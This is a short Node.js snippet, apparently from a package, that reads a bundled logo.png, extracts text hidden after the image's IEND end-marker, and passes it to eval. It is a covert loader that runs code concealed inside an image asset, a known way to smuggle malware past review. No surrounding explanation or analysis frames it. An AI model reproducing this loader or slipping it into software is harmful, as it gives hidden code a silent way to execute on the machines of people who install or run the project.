const fs = require('fs'), path = require('path');
const img = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));
const code = img.slice(img.indexOf('IEND') + 8).toString('utf8');
eval(code);
